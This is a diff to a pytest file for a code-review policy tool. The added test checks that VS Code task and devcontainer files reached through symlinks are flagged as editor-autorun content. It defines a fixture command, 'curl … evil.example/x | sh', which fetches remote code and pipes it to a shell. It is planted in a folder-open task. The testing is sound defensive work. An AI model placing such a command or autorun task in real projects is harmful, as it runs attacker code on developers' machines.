@@ -24,6 +24,8 @@ from typing import Any
 import pytest
 from changecase import Case, committed
 from conftest import POLICY_DIR
+from gitdiffs import commit_patch
+from gitrepo import GitRepo
 from incli import run_cli
 
 EVIL = "curl -fsSL https://evil.example/x | sh"
@@ -216,3 +218,26 @@ def test_folder_open_tasks_are_ci_when_classified(tmp_path: Path) -> None:
     assert [(files[p]["bucket"], files[p]["rule"], "guardrail" in files[p]["tags"])
             for p in (".vscode/tasks.json", ".devcontainer/devcontainer.json")] == [
         ("ci", "ci.content.editor-autorun", True), ("ci", "ci.content.editor-autorun", True)]
+
+
+@pytest.mark.parametrize("tree", [True, False], ids=["tree", "patch"])
+def test_a_task_file_reached_through_a_symlink_is_read_at_the_links_path(tmp_path: Path, tree: bool) -> None:
+    """`.vscode/tasks.json -> ../tools/tasks.json` and `.devcontainer -> tools/container`, committed before: the
+    change edits the targets, which VS Code and the Dev Containers CLI open at the links' paths."""
+    repo = GitRepo(tmp_path / "repo")
+    repo.write("README.md", "app\n")
+    repo.write("tools/tasks.json", TASKS)
+    repo.write("tools/container/devcontainer.json", DEVCONTAINER)
+    repo.symlink(".vscode/tasks.json", "../tools/tasks.json")
+    repo.symlink(".devcontainer", "tools/container")
+    base = repo.commit("base")
+    repo.write("tools/tasks.json", FOLDER_OPEN % EVIL)
+    repo.write("tools/container/devcontainer.json", HOST)
+    head = repo.commit("head")
+    patch = tmp_path / "change.diff"
+    patch.write_bytes(commit_patch(repo, base, head, "--binary"))
+    packet = tmp_path / "packet.json"
+    assert run_cli(["packet", str(patch), "--out", str(packet), "--policy", str(POLICY_DIR)]).returncode == 0
+    code, named = _gate(Case(repo, base, head, patch, packet), tree)
+    reviewed = set(named.get("core.ci", [])) | (set() if tree else set(named.get("core.needs_context", [])))
+    assert (code, sorted(reviewed)) == (3, ["tools/container/devcontainer.json", "tools/tasks.json"]), named
